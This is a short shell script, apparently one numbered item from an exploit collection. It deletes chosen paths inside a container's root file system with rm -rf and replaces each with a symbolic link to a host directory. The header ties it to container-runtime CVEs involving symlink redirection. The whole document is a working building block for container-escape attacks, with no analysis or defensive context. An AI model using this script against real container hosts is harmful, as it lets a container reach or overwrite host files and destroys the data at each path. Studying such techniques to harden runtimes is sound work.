# A35 B16: turns places of a root file system (from the third argument on) into links to a directory of the host (the second); source: CVE-2019-19921, CVE-2025-31133, CVE-2026-41579
root=$1 to=$2
shift 2
for place; do
	mkdir -p "$root/$(dirname "$place")"
	rm -rf "${root:?}/$place"
	ln -s "$to" "$root/$place"
done
